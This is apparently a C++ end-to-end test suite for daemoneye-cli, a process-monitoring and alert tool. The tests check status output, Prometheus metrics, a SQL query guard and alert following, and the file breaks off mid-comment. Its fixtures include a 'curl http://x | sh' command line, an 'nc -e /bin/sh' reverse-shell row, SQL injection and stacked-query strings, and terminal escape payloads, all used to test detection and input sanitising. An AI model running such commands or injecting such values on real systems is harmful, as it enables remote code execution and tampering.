// daemoneye-cli end to end: the real binary (DAEMONEYE_CLI_BIN) against a
// real store made through the library (Store::open, append_events,
// insert_alerts), real status files (write_status_file) naming real live and
// dead processes, real rule files, and at the end a real running agent.

#include "harness.hpp"

#include "../cli/alert_queries.hpp"

#include <airssys/daemoneye/agent_status.hpp>
#include <airssys/daemoneye/store.hpp>
#include <airssys/osl/proc.hpp>
#include <airssys/testing/run.hpp>

#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include <sqlite3.h>
#include <sys/stat.h>

#include <ctime>
#include <map>
#include <regex>
#include <set>
#include <tuple>

namespace detest {
namespace {

namespace de = airssys::daemoneye;

std::int64_t now() { return static_cast<std::int64_t>(::time(nullptr)); }

bool has(const std::string& text, const std::string& what) { return text.find(what) != std::string::npos; }

class Cli : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_FALSE(cli_bin().empty()) << "DAEMONEYE_CLI_BIN is not set: run this test through ctest";
    fs::create_directories(var_);
    ::chmod(var_.c_str(), 0700);
  }

  Outcome cli(std::vector<std::string> args) const { return run_cli(std::move(args), dir_.path()); }
  Outcome cli_db(std::vector<std::string> args) const {
    args.insert(args.begin(), {"--db", db_.string()});
    return cli(std::move(args));
  }

  // A status as the agent writes it, naming this test process (alive, with its real start ticks).
  de::AgentStatus live_status() const {
    de::AgentStatus s;
    s.pid = ::getpid();
    s.start_ticks = airssys::osl::proc::read_stat(::getpid())->starttime;
    s.version = "0.1.0";
    s.host = "test-host";
    s.started_at = now() - 3600;
    s.updated_at = now();
    s.database = db_.string();
    s.scan_interval_ms = 1000;
    s.write_interval_ms = 1000;
    s.rules = {.loaded = 5, .enabled = 4, .rejected_count = 1,
               .rejected = {{"/r/bad.yaml", "/r/bad.yaml:3: severity 'extreme' is not one of low, medium, high, critical"}},
               .failing = {"slow-rule"}};
    s.scans = 42;
    s.last_scan = de::LastScan{.time = now() - 1, .scan_id = 41, .processes = 321, .unreadable = 2,
                               .collect_us = 40000, .store_us = 3000, .rules_us = 7000, .alerts = 1, .rule_errors = 1,
                               .unreadable_sample = {{.pid = 1, .name = "systemd\x1b[2J",
                                                      .missing = {"/proc/1/exe", "/proc/1/io"}}}};
    s.alerts = {.raised = 7, .deduplicated = 30, .rate_limited = 2, .sink_errors = 1};
    s.procmond = {.running = true, .pid = 99999, .exits = 3, .crashes = 2};
    de::ProcmondStatus p;
    p.time = now();
    p.pid = 99999;
    p.tier = de::EventSource::proc_connector;
    p.tier_reason = "eBPF: \x1b[31mverifier rejected exec program";
    p.scans = 41;
    p.budget_per_second = 5000;
    p.sources[0] = {.events = 11, .dropped = 0, .lost = 0};
    p.sources[1] = {.events = 900, .dropped = 40, .lost = 3};
    s.procmond_status = p;
    s.procmond_status_received = now();
    s.store = {.store_failures = 3, .batches_pending = 2, .events_pending = 40, .events_dropped = 5,
               .snapshots_superseded = 1, .last_error = "resource_exhausted: database or disk is full"};
    return s;
  }
  void write_status(const de::AgentStatus& s) const {
    auto w = de::write_status_file(de::status_file_for(db_), s);
    ASSERT_TRUE(w) << w.error();
  }
  // With s written, `status` exits 0 printing status_text, and `metrics`
  // exits 0 printing each of metric_lines as a whole line.
  void expect_status_and_metrics(const de::AgentStatus& s, const std::string& status_text,
                                 std::initializer_list<std::string> metric_lines) const {
    write_status(s);
    Outcome r = cli_db({"status"});
    EXPECT_EQ(r.code, 0) << r.out << r.err;
    EXPECT_TRUE(has(r.out, status_text)) << r.out;
    Outcome m = cli_db({"metrics"});
    EXPECT_EQ(m.code, 0) << m.err;
    for (const std::string& line : metric_lines) EXPECT_TRUE(has(m.out, line + "\n")) << line << "\n" << m.out;
  }

  // The rule_id of each line `alerts --follow --json` wrote to `out` ("?" for a line that is not an alert).
  static std::vector<std::string> rule_ids_in(const fs::path& out) {
    std::vector<std::string> got;
    std::istringstream in(slurp(out));
    for (std::string l; std::getline(in, l);) {
      const auto j = nlohmann::json::parse(l, nullptr, false);
      got.push_back(j.is_object() ? j.value("rule_id", "?") : "?");
    }
    return got;
  }

  // Stored as the agent stores them (a connection of its own, closed after).
  void store_alerts(const std::vector<de::Alert>& alerts) const {
    auto store = de::Store::open({.path = db_});
    ASSERT_TRUE(store) << store.error();
    auto i = (*store)->insert_alerts(alerts);
    ASSERT_TRUE(i) << i.error();
  }

  void make_store() {
    auto store = de::Store::open({.path = db_});
    ASSERT_TRUE(store) << store.error();
    std::vector<de::ProcessEvent> events;
    auto record = [](std::int64_t pid, const std::string& name, const std::string& cmdline) {
      de::ProcessRecord r;
      r.pid = pid;
      r.parent = 1;
      r.name = name;
      r.path = "/usr/bin/" + name;
      r.cmdline = cmdline;
      r.uid = 0;
      r.username = "root";
      r.start_time = now() - 10;
      return r;
    };
    events.push_back({de::EventKind::start, de::EventSource::ebpf, now() - 5, record(4100, "curl", "curl http://x | sh")});
    events.push_back({de::EventKind::exec, de::EventSource::ebpf, now() - 4,
                      record(4101, "evil", "evil \x1b[2J\x1b[31mred")});
    events.push_back({de::EventKind::stop, de::EventSource::poll, now() - 3, record(4100, "curl", "curl http://x | sh")});
    events.push_back({de::EventKind::start, de::EventSource::poll, now() - 3 * 86400, record(4100, "old", "old")});
    auto a = (*store)->append_events(events);
    ASSERT_TRUE(a) << a.error();
    std::vector<de::Alert> alerts;
    alerts.push_back({.rule_id = "exec-from-tmp", .rule_name = "Executable under /tmp", .severity = de::Severity::medium,
                      .tags = {"attack.t1105"}, .row_json = R"({"pid":4100,"path":"/tmp/x"})", .host = "h",
                      .time = now() - 60, .dedup_key = "exec-from-tmp|pid=4100"});
    alerts.push_back({.rule_id = "reverse-shell", .rule_name = "Reverse shell", .severity = de::Severity::critical,
                      .tags = {"t1059"}, .row_json = R"({"pid":4101,"cmdline":"nc -e /bin/sh"})", .host = "h",
                      .time = now() - 30, .dedup_key = "reverse-shell|pid=4101"});
    alerts.push_back({.rule_id = "exe-deleted", .rule_name = "Old one", .severity = de::Severity::high, .tags = {},
                      .row_json = R"({"pid":1})", .host = "h", .time = now() - 2 * 86400, .dedup_key = "exe-deleted|pid=1"});
    auto i = (*store)->insert_alerts(alerts);
    ASSERT_TRUE(i) << i.error();
  }

  TempDir dir_;
  fs::path var_ = dir_.path() / "var";
  fs::path db_ = var_ / "daemoneye.db";
};

TEST_F(Cli, VersionAndUsage) {
  Outcome r = cli({"--version"});
  EXPECT_EQ(r.code, 0);
  EXPECT_EQ(r.out, "daemoneye-cli 0.1.0\n");
  EXPECT_EQ(cli({}).code, 2);
  EXPECT_EQ(cli({"frobnicate"}).code, 2);
  EXPECT_EQ(cli({"query"}).code, 2);  // the SQL is required
  Outcome bad = cli_db({"alerts", "--since", "10"});
  EXPECT_EQ(bad.code, 2);
  EXPECT_TRUE(has(bad.err, "--since 10: '10' needs a unit")) << bad.err;
  Outcome inj = cli_db({"alerts", "--rule", "x' OR 1=1 --"});
  EXPECT_EQ(inj.code, 2);
  EXPECT_TRUE(has(inj.err, "a rule id holds only letters, digits")) << inj.err;
  // An empty id printed every rule's alerts, as if --rule were not given.
  Outcome empty = cli_db({"alerts", "--rule", ""});
  EXPECT_EQ(empty.code, 2);
  EXPECT_TRUE(has(empty.err, "--rule: a rule id is not empty")) << empty.err;
}

TEST_F(Cli, StatusWithoutAStatusFileSaysNotRunning) {
  Outcome r = cli_db({"status"});
  EXPECT_EQ(r.code, 1);
  EXPECT_TRUE(has(r.out, "not_running — no status file at " + de::status_file_for(db_).string())) << r.out;
  Outcome j = cli_db({"status", "--json"});
  EXPECT_EQ(j.code, 1);
  auto doc = nlohmann::json::parse(j.out);
  EXPECT_EQ(doc["agent"]["state"], "not_running");
  EXPECT_TRUE(doc["status"].is_null());
  Outcome m = cli_db({"metrics"});
  EXPECT_EQ(m.code, 0);
  EXPECT_TRUE(has(m.out, "\ndaemoneye_agent_up 0\n")) << m.out;
}

TEST_F(Cli, StatusOfARunningAgentShowsItsCountersTierAndDrops) {
  write_status(live_status());
  Outcome r = cli_db({"status"});
  EXPECT_EQ(r.code, 0) << r.out << r.err;
  EXPECT_TRUE(has(r.out, fmt::format("agent:     running — the agent (pid {}) is running", ::getpid()))) << r.out;
  EXPECT_TRUE(has(r.out, "scans:     42 stored")) << r.out;
  EXPECT_TRUE(has(r.out, "321 processes (2 partly unreadable)")) << r.out;
  // Which, and what of each could not be read: the first ones status.json names.
  EXPECT_TRUE(has(r.out, "\n           unreadable: 1 (systemd?[2J): /proc/1/exe, /proc/1/io\n"
                         "           … and 1 more partly unreadable\n"))
      << r.out;
  EXPECT_TRUE(has(r.out, "rules:     5 loaded, 4 enabled, 1 rejected, 1 failing")) << r.out;
  EXPECT_TRUE(has(r.out, "rejected: /r/bad.yaml:3: severity 'extreme'")) << r.out;
  EXPECT_TRUE(has(r.out, "failing at run time: slow-rule")) << r.out;
  EXPECT_TRUE(has(r.out, "alerts:    7 raised, 30 deduplicated, 2 rate-limited, 1 sink errors")) << r.out;
  EXPECT_TRUE(has(r.out, "procmond:  running (pid 99999), 2 crashes")) << r.out;
  // The tier and why, with the escape byte from procmond's text made inert.
  EXPECT_TRUE(has(r.out, "tier proc_connector — eBPF: ?[31mverifier rejected exec program")) << r.out;
  EXPECT_FALSE(has(r.out, "\x1b")) << "an escape byte reached the terminal";
  EXPECT_TRUE(std::regex_search(r.out, std::regex("proc_connector +900 +40 +3"))) << r.out;
  EXPECT_TRUE(has(r.out, "store:     store_failures 3, batches_pending 2 (40 events), events_dropped 5, "
                         "snapshots_superseded 1 — retrying\n"
                         "           last failure: resource_exhausted: database or disk is full\n"))
      << r.out;

  Outcome j = cli_db({"status", "--json"});
  EXPECT_EQ(j.code, 0);
  auto doc = nlohmann::json::parse(j.out);
  EXPECT_EQ(doc["agent"]["state"], "running");
  EXPECT_EQ(doc["status"]["procmond"]["status"]["tier"], "proc_connector");
  EXPECT_EQ(doc["status"]["procmond"]["status"]["sources"]["proc_connector"]["dropped"], 40);
  EXPECT_EQ(doc["status"]["scans"]["done"], 42);
  EXPECT_EQ(doc["status"]["scans"]["last"]["unreadable_sample"][0]["missing"][1], "/proc/1/io");
  EXPECT_EQ(doc["status"]["store"]["store_failures"], 3);
  EXPECT_EQ(doc["status"]["store"]["batches_pending"], 2);
  EXPECT_EQ(doc["status"]["store"]["events_dropped"], 5);
}

// The live query counters (status.json live_query) reach status and
// metrics; without them (live queries off) neither shows any.
TEST_F(Cli, StatusAndMetricsShowTheLiveQueryCounters) {
  de::AgentStatus s = live_status();
  write_status(s);
  EXPECT_FALSE(has(cli_db({"status"}).out, "queries:"));
  EXPECT_FALSE(has(cli_db({"metrics"}).out, "daemoneye_live_quer"));
  s.live_query = de::LiveQueryCounters{.accepted = 4, .failed = 3, .answered = 6, .rows = 120, .dropped = 2,
                                       .audit_suppressed = 9,
                                       .refused = {{"clock", 3}, {"malformed", 0}, {"replayed", 2}, {"odd\"one", 1}},
                                       .failed_ledger = 2};
  expect_status_and_metrics(
      s,
      "queries:   4 accepted (1 failed), 2 not run (the ledger failed), 6 refused (3 clock, 1 odd\"one, 2 replayed), "
      "6 replies with 120 rows, 2 expired, replayed or over the nonce cache not answered, 9 refusals not recorded "
      "(ledger rate limit)\n",
      {"daemoneye_live_queries_total{outcome=\"accepted\"} 4", "daemoneye_live_queries_total{outcome=\"failed_ledger\"} 2",
       "daemoneye_live_query_failed_total{stage=\"query\"} 1", "daemoneye_live_query_failed_total{stage=\"ledger\"} 2",
       "daemoneye_live_query_refused_total{reason=\"clock\"} 3",
       "daemoneye_live_query_refused_total{reason=\"malformed\"} 0",
       "daemoneye_live_query_refused_total{reason=\"odd\\\"one\"} 1", "daemoneye_live_query_replies_total 6",
       "daemoneye_live_query_rows_total 120", "daemoneye_live_query_dropped_total 2",
       "daemoneye_live_query_audit_suppressed_total 9", "# TYPE daemoneye_live_query_refused_total counter"});
}

TEST_F(Cli, StatusAndMetricsShowTheSocketCounters) {
  de::AgentStatus s = live_status();
  write_status(s);
  Outcome r = cli_db({"status"});
  EXPECT_TRUE(has(r.out, "sockets:   not collected (")) << r.out;
  EXPECT_FALSE(has(cli_db({"metrics"}).out, "daemoneye_sockets_")) << "no socket metrics without a socket report";
  s.procmond_status->sockets = de::SocketCounters{.rows = 601, .unreadable = 2, .fds_capped = 0, .tables_capped = 1,
                                                  .unmatched = 5, .ambiguous = 1, .other_namespace = 3, .truncated = 7,
                                                  .us = 21700};
  expect_status_and_metrics(
      s,
      "sockets:   601 rows in the last collection (21.7 ms); 7 processes cut by the collection's budget, 2 processes "
      "unreadable, 1 tables over the line cap, 5 socket fds in no table, 1 ambiguous unix inodes\n"
      "           3 found in another network namespace\n",
      {"daemoneye_sockets_rows 601", "daemoneye_sockets_missed{reason=\"truncated\"} 7",
       "daemoneye_sockets_missed{reason=\"fds_capped\"} 0", "daemoneye_sockets_missed{reason=\"ambiguous\"} 1",
       "daemoneye_sockets_other_namespace 3", "daemoneye_sockets_collect_seconds 0.0217",
       "# TYPE daemoneye_sockets_missed gauge"});
}

TEST_F(Cli, StatusTellsStoppedCrashedRecycledAndStaleApart) {
  de::AgentStatus s = live_status();
  s.state = de::AgentState::stopped;
  write_status(s);
  Outcome r = cli_db({"status"});
  EXPECT_EQ(r.code, 1);
  EXPECT_TRUE(has(r.out, "stopped — the agent")) << r.out;
  EXPECT_TRUE(has(r.out, "stopped cleanly")) << r.out;

  // A process that has exited and been reaped: its pid is gone.
  pid_t gone = 0;
  {
    Child c({"/bin/true"});
    gone = c.pid();
    ASSERT_TRUE(c.wait().has_value());
  }
  s = live_status();
  s.pid = gone;
  s.start_ticks = 1;
  write_status(s);
  r = cli_db({"status"});
  EXPECT_EQ(r.code, 1);
  EXPECT_TRUE(has(r.out, fmt::format("not_running — the agent (pid {}) is not running: it did not stop cleanly", gone)))
      << r.out;

  // Our pid, but other start ticks: the pid was recycled.
  s = live_status();
  s.start_ticks += 12345;
  write_status(s);
  r = cli_db({"status", "--json"});
  EXPECT_EQ(r.code, 1);
  EXPECT_EQ(nlohmann::json::parse(r.out)["agent"]["state"], "not_running");

  s = live_status();
  s.updated_at = now() - 600;
  write_status(s);
  r = cli_db({"status"});
  EXPECT_EQ(r.code, 1);
  EXPECT_TRUE(has(r.out, "stale — the agent")) << r.out;
  EXPECT_TRUE(has(r.out, "stale after 13 s")) << r.out;
  Outcome m = cli_db({"metrics"});
  EXPECT_TRUE(has(m.out, "\ndaemoneye_agent_up 0\n")) << m.out;
}

TEST_F(Cli, ACorruptStatusFileIsNamedWithTheField) {
  write_file(de::status_file_for(db_), R"({"format":1,"state":"dancing"})");
  Outcome r = cli_db({"status"});
  EXPECT_EQ(r.code, 5);  // corrupt
  EXPECT_EQ(r.err, "daemoneye-cli: " + de::status_file_for(db_).string() +
                       ": agent_status.state: unknown state 'dancing' (known: running, stopped)\n");
  EXPECT_EQ(cli_db({"metrics"}).code, 5);
}

// Every sample belongs to a family announced by one HELP and one TYPE line
// before it; counters end in _total; the values are the status file's.
TEST_F(Cli, MetricsAreValidPrometheusText) {
  write_status(live_status());
  Outcome r = cli_db({"metrics"});
  ASSERT_EQ(r.code, 0) << r.err;
  std::map<std::string, std::string> type_of;
  std::set<std::string> helped;
  std::map<std::string, std::string> samples;
  std::istringstream in(r.out);
  const std::regex sample_re(R"(^([a-z_]+)(\{[a-z_]+="[a-z_]+"\})? (-?[0-9.e+-]+)$)");
  for (std::string line; std::getline(in, line);) {
    std::smatch m;
    if (line.starts_with("# HELP ")) {
      const auto name = line.substr(7, line.find(' ', 7) - 7);
      EXPECT_TRUE(helped.insert(name).second) << "two HELP lines for " << name;
    } else if (line.starts_with("# TYPE ")) {
      std::istringstream t(line.substr(7));
      std::string name, type;
      t >> name >> type;
      EXPECT_TRUE(type == "counter" || type == "gauge") << line;
      EXPECT_TRUE(type_of.emplace(name, type).second) << "two TYPE lines for " << name;
      if (type == "counter") {
        EXPECT_TRUE(name.ends_with("_total")) << name;
      }
    } else if (std::regex_match(line, m, sample_re)) {
      EXPECT_TRUE(type_of.contains(m[1]) && helped.contains(m[1])) << "no HELP/TYPE before " << line;
      samples[m[1].str() + m[2].str()] = m[3];
    } else {
      ADD_FAILURE() << "not exposition format: " << line;
    }
  }
  EXPECT_EQ(samples["daemoneye_agent_up"], "1");
  EXPECT_EQ(samples["daemoneye_scans_total"], "42");
  EXPECT_EQ(samples[R"(daemoneye_alerts_total{outcome="raised"})"], "7");
  EXPECT_EQ(samples[R"(daemoneye_alerts_total{outcome="deduplicated"})"], "30");
  EXPECT_EQ(samples[R"(daemoneye_alerts_total{outcome="rate_limited"})"], "2");
  EXPECT_EQ(samples["daemoneye_procmond_restarts_total"], "2");
  EXPECT_EQ(samples[R"(daemoneye_event_tier{tier="proc_connector"})"], "1");
  EXPECT_EQ(samples[R"(daemoneye_event_tier{tier="ebpf"})"], "0");
  EXPECT_EQ(samples[R"(daemoneye_events_total{source="proc_connector"})"], "900");
  EXPECT_EQ(samples[R"(daemoneye_events_dropped_total{source="proc_connector"})"], "40");
  EXPECT_EQ(samples[R"(daemoneye_events_lost_total{source="proc_connector"})"], "3");
  EXPECT_EQ(samples[R"(daemoneye_last_scan_duration_seconds{phase="collect"})"], "0.04");
  EXPECT_EQ(samples["daemoneye_store_failures_total"], "3");
  EXPECT_EQ(samples["daemoneye_store_batches_pending"], "2");
  EXPECT_EQ(samples["daemoneye_store_events_pending"], "40");
  EXPECT_EQ(samples["daemoneye_store_events_dropped_total"], "5");
}

TEST_F(Cli, QueryRunsUnderTheRulesGuard) {
  make_store();
  Outcome t = cli_db({"query", "SELECT id, rule_id, severity FROM alerts ORDER BY id"});
  EXPECT_EQ(t.code, 0) << t.err;
  EXPECT_EQ(t.out,
            "id  rule_id        severity\n"
            " 1  exec-from-tmp  medium\n"
            " 2  reverse-shell  critical\n"
            " 3  exe-deleted    high\n");
  // Column names reach the terminal as the cells do: made printable (a
  // fleet reply's are any NATS peer's text; the table is the same code).
  Outcome esc = cli_db({"query", "SELECT 1 AS \"a\x1b]0;pwn\x07" "b\", 2 AS \"\xc2\x9b" "2J\""});
  EXPECT_EQ(esc.code, 0) << esc.err;
  EXPECT_EQ(esc.out, "a?]0;pwn?b  ?2J\n         1    2\n") << esc.out;
  Outcome c = cli_db({"query", "SELECT rule_id, row FROM alerts WHERE id = 2", "--format", "csv"});
  EXPECT_EQ(c.code, 0);
  EXPECT_EQ(c.out, "rule_id,row\r\nreverse-shell,\"{\"\"pid\"\":4101,\"\"cmdline\"\":\"\"nc -e /bin/sh\"\"}\"\r\n");
  Outcome j = cli_db({"query", "SELECT pid, name, NULL AS missing FROM process_events ORDER BY id LIMIT 1", "--format", "json"});
  EXPECT_EQ(j.code, 0);
  EXPECT_EQ(nlohmann::json::parse(j.out), nlohmann::json::parse(R"([{"pid":4100,"name":"curl","missing":null}])"));

  // Refused by the guard: 4 (denied); SQL that is not one valid query: 2.
  const std::vector<std::tuple<std::string, std::string, int>> refused = {
      {"DELETE FROM alerts", "not allowed: DELETE from alerts", 4},
      {"ATTACH DATABASE '/tmp/x.db' AS x", "not allowed: ATTACH", 4},
      {"PRAGMA journal_mode = DELETE", "not allowed: PRAGMA journal_mode", 4},
      {"SELECT 1; DROP TABLE alerts", "only one statement per query", 2},
      {"SELECT name FROM sqlite_master", "not allowed: read of table sqlite_master", 4},
      {"SELECT foo FROM processes", "no such column: foo", 2},
  };
  for (const auto& [sql, why, code] : refused) {
    Outcome r = cli_db({"query", sql});
    EXPECT_EQ(r.code, code) << sql;
    EXPECT_TRUE(has(r.err, "daemoneye-cli: query refused: " + why)) << sql << ": " << r.err;
  }
  Outcome count = cli_db({"query", "SELECT count(*) AS n FROM alerts", "--format", "csv"});
  EXPECT_EQ(count.out, "n\r\n3\r\n") << "a refused query changed the store";

  Outcome cut = cli_db({"query", "SELECT id FROM alerts ORDER BY id", "--max-rows", "2", "--format", "csv"});
  EXPECT_EQ(cut.code, 0);
  EXPECT_EQ(cut.out, "id\r\n1\r\n2\r\n");
  EXPECT_TRUE(has(cut.err, "result cut after 2 rows")) << cut.err;

  Outcome slow = cli_db({"query", "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) SELECT count(*) FROM c",
                     "--timeout", "200ms"});
  EXPECT_EQ(slow.code, 6);  // timed out
  EXPECT_TRUE(has(slow.err, "time limit exceeded (200 ms)")) << slow.err;

  Outcome missing = cli({"--db", (dir_.path() / "nope.db").string(), "query", "SELECT 1"});
  EXPECT_EQ(missing.code, 3);  // not found
  EXPECT_TRUE(has(missing.err, (dir_.path() / "nope.db").string())) << missing.err;
}

TEST_F(Cli, AlertsAreListedOldestFirstAndFiltered) {
  make_store();
  Outcome r = cli_db({"alerts"});
  EXPECT_EQ(r.code, 0) << r.err;
  std::vector<std::string> lines;
  std::istringstream in(r.out);
  for (std::string l; std::getline(in, l);) lines.push_back(l);
  ASSERT_EQ(lines.size(), 2u) << r.out;  // the 2-day-old one is outside the default 24h
  EXPECT_TRUE(has(lines[0], "MEDIUM exec-from-tmp Executable under /tmp pid=4100 path=/tmp/x")) << lines[0];
  EXPECT_TRUE(has(lines[1], "CRITICAL reverse-shell Reverse shell pid=4101")) << lines[1];

  const std::string three = cli_db({"alerts", "--since", "3d"}).out;
  EXPECT_EQ(std::count(three.begin(), three.end(), '\n'), 3) << three;
  Outcome one = cli_db({"alerts", "--rule", "reverse-shell", "--json"});
  EXPECT_EQ(one.code, 0);
  auto doc = nlohmann::json::parse(one.out);
  ASSERT_EQ(doc.size(), 1u);
  EXPECT_EQ(doc[0]["rule_id"], "reverse-shell");
  EXPECT_EQ(doc[0]["severity"], "critical");
  EXPECT_EQ(doc[0]["tags"], nlohmann::json::array({"t1059"}));
  EXPECT_EQ(doc[0]["row"]["cmdline"], "nc -e /bin/sh");
  Outcome limited = cli_db({"alerts", "--since", "3d", "--limit", "1", "--json"});
  ASSERT_EQ(nlohmann::json::parse(limited.out).size(), 1u);
  EXPECT_EQ(nlohmann::json::parse(limited.out)[0]["rule_id"], "reverse-shell");  // the newest
}

// An alert of `rule` about `pid`, 20 s ago.
de::Alert rule_alert(const std::string& rule, std::int64_t pid) {
  return de::Alert{.rule_id = rule, .rule_name = "Sigma " + rule, .severity = de::Severity::high, .tags = {},
                   .row_json = fmt::format(R"({{"pid":{}}})", pid), .host = "h", .time = now() - 20,
                   .dedup_key = fmt::format("{}|pid={}", rule, pid)};
}

// --rule takes the beginning of a stored Sigma rule id (a UUID) when it
// names one rule, and says which on stderr; a beginning of several is an
// error naming them; an id with alerts stored is itself, even when it
// begins others; an id no stored alert has is said so.
TEST_F(Cli, AlertsRuleTakesAUniqueBeginningOfAStoredRuleId) {
  make_store();
  store_alerts({rule_alert("8c1f6f0e-2b7a-4c55-9d1e-3f0a5b6c7d8e", 5001),
                rule_alert("8c1f7a00-0000-4000-8000-000000000001", 5002), rule_alert("exec-from-tmp-v2", 5003)});

  Outcome one = cli_db({"alerts", "--rule", "8c1f6", "--json"});
  EXPECT_EQ(one.code, 0) << one.err;
  EXPECT_EQ(one.err, "daemoneye-cli: --rule 8c1f6: rule 8c1f6f0e-2b7a-4c55-9d1e-3f0a5b6c7d8e\n");
  auto doc = nlohmann::json::parse(one.out, nullptr, false);
  ASSERT_TRUE(doc.is_array()) << one.out;
  ASSERT_EQ(doc.size(), 1u) << one.out;
  EXPECT_EQ(doc[0]["row"]["pid"], 5001);

  Outcome two = cli_db({"alerts", "--rule", "8c1f"});
  EXPECT_EQ(two.code, 2) << two.err;
  EXPECT_EQ(two.out, "");
  EXPECT_EQ(two.err,
            "daemoneye-cli: --rule 8c1f: ambiguous, the rules of the stored alerts beginning with it are "
            "8c1f6f0e-2b7a-4c55-9d1e-3f0a5b6c7d8e, 8c1f7a00-0000-4000-8000-000000000001; give more of the id\n");

  Outcome exact = cli_db({"alerts", "--rule", "exec-from-tmp", "--json"});
  EXPECT_EQ(exact.code, 0) << exact.err;
  EXPECT_EQ(exact.err, "");
  doc = nlohmann::json::parse(exact.out, nullptr, false);
  ASSERT_TRUE(doc.is_array()) << exact.out;
  ASSERT_EQ(doc.size(), 1u) << exact.out;
  EXPECT_EQ(doc[0]["rule_id"], "exec-from-tmp");

  // Alerts stored, none within --since: the id is known, the listing empty.
  Outcome old = cli_db({"alerts", "--rule", "exe-deleted", "--since", "1h"});
  EXPECT_EQ(old.code, 0) << old.err;
  EXPECT_EQ(old.err, "daemoneye-cli: no alerts in the last 3600 s for rule exe-deleted\n");

  Outcome unknown = cli_db({"alerts", "--rule", "nosuch"});
  EXPECT_EQ(unknown.code, 0) << unknown.err;
  EXPECT_EQ(unknown.err, "daemoneye-cli: no alerts in the last 86400 s for rule nosuch (no alert stored has that rule "
                         "id)\n");
}

// Only the beginning of a Sigma rule's UUID is widened, and never for
// --follow. Before: "exe-del" listed exe-deleted's alerts, an id with no
// alerts stored yet (shell-spawn, on a store where only shell-spawn-v2 has
// any) listed v2's (exit 0, said on stderr only), and --follow watched
// the id chosen at its start: v2's, missing every later alert of the rule
// asked for.
TEST_F(Cli, AlertsRuleNeverTakesAWholeIdForALongerOneNorWidensAWatch) {
  make_store();
  store_alerts({rule_alert("8c1f6f0e-2b7a-4c55-9d1e-3f0a5b6c7d8e", 5001), rule_alert("shell-spawn-v2", 5003)});

  Outcome whole = cli_db({"alerts", "--rule", "shell-spawn", "--json"});
  EXPECT_EQ(whole.code, 0) << whole.err;
  EXPECT_EQ(whole.out, "[]\n");
  EXPECT_EQ(whole.err, "");
  Outcome words = cli_db({"alerts", "--rule", "exe-del"});
  EXPECT_EQ(words.code, 0) << words.err;
  EXPECT_EQ(words.err, "daemoneye-cli: no alerts in the last 86400 s for rule exe-del (no alert stored has that rule "
                       "id)\n");

  Outcome watch = cli_db({"alerts", "--rule", "8c1f6", "--follow"});
  EXPECT_EQ(watch.code, 2) << watch.err;
  EXPECT_EQ(watch.out, "");
  EXPECT_EQ(watch.err, "daemoneye-cli: --rule 8c1f6: --follow needs the full id (it watches that one id; the stored "
                       "rules beginning with it are 8c1f6f0e-2b7a-4c55-9d1e-3f0a5b6c7d8e)\n");
}

// alerts --follow prints what is there, then each alert as it is stored,
// with --json one object per line (jq-able as it arrives); the watch ends
// when the test kills it. Before, the CLI had no way to watch.
TEST_F(Cli, AlertsFollowPrintsEachNewAlertAsItIsStored) {
  make_store();
  const fs::path out = dir_.path() / "follow.out", err = dir_.path() / "follow.err";
  Child watch({cli_bin(), "--db", db_.string(), "alerts", "--follow", "--json"}, out, err);
  auto lines = [&] {
    std::vector<nlohmann::json> got;
    std::istringstream in(slurp(out));
    for (std::string l; std::getline(in, l);) got.push_back(nlohmann::json::parse(l, nullptr, false));
    return got;
  };
  ASSERT_TRUE(eventually([&] { return lines().size() == 2; }, 30s)) << slurp(out) << slurp(err);
  {
    auto store = de::Store::open({.path = db_});
    ASSERT_TRUE(store) << store.error();
    std::vector<de::Alert> late{{.rule_id = "late-rule", .rule_name = "Raised while watched", .severity = de::Severity::high,
                                 .tags = {}, .row_json = R"({"pid":4242})", .host = "h", .time = now(),
                                 .dedup_key = "late-rule|pid=4242"}};
    auto i = (*store)->insert_alerts(late);
    ASSERT_TRUE(i) << i.error();
  }
  ASSERT_TRUE(eventually([&] { return lines().size() == 3; }, 30s)) << slurp(out) << slurp(err);
  const auto got = lines();
  for (const auto& j : got) EXPECT_TRUE(j.is_object()) << slurp(out);
  EXPECT_EQ(got[0]["rule_id"], "exec-from-tmp");
  EXPECT_EQ(got[2]["rule_id"], "late-rule");
  EXPECT_EQ(got[2]["row"]["pid"], 4242);
  // Still watching, and printing each alert once.
  EXPECT_FALSE(watch.wait(1500ms).has_value()) << slurp(err);
  EXPECT_EQ(lines().size(), 3u) << slurp(out);

  // Without --follow, --json is still one array.
  Outcome once = cli_db({"alerts", "--json"});
  EXPECT_EQ(once.code, 0) << once.err;
  EXPECT_EQ(nlohmann::json::parse(once.out).size(), 3u) << once.out;
}

// Retention empties the alerts table, and the store (id INTEGER PRIMARY KEY,
// no AUTOINCREMENT) numbers the next alerts from 1 again. Before, the watch
// knew only the largest id it had seen (3, the 2-day-old alert outside the
// listing) and printed just the 4th of four new alerts.
TEST_F(Cli, AlertsFollowKeepsNewAlertsWhoseIdsWereUsedBefore) {
  make_store();
  const fs::path out = dir_.path() / "follow.out", err = dir_.path() / "follow.err";
  Child watch({cli_bin(), "--db", db_.string(), "alerts", "--follow", "--json"}, out, err);
  auto rule_ids = [&] { return rule_ids_in(out); };
  ASSERT_TRUE(eventually([&] { return rule_ids().size() == 2; }, 30s)) << slurp(out) << slurp(err);
  {
    auto store = de::Store::open({.path = db_});
    ASSERT_TRUE(store) << store.error();
    auto pruned = (*store)->enforce_retention(now() + 30 * 86400);
    ASSERT_TRUE(pruned) << pruned.error();
    ASSERT_EQ(pruned->alerts_deleted, 3u);
    std::vector<de::Alert> fresh;
    for (int i = 1; i <= 4; ++i)
      fresh.push_back({.rule_id = fmt::format("fresh-{}", i), .rule_name = "After retention", .severity = de::Severity::low,
                       .tags = {}, .row_json = fmt::format(R"({{"pid":{}}})", i), .host = "h", .time = now(),
                       .dedup_key = fmt::format("fresh-{}|pid={}", i, i)});
    auto i = (*store)->insert_alerts(fresh);
    ASSERT_TRUE(i) << i.error();
  }
  const std::vector<std::string> want{"exec-from-tmp", "reverse-shell", "fresh-1", "fresh-2", "fresh-3", "fresh-4"};
  EXPECT_TRUE(eventually([&] { return rule_ids() == want; }, 30s)) << slurp(out) << slurp(err);
  EXPECT_FALSE(watch.wait(1500ms).has_value()) << slurp(err);
  EXPECT_EQ(rule_ids(), want) << "each printed once";
}

// Alerts no query can read whole: one with a value past the engine's
// 256 KiB value limit (the statement fails), one whose values together pass
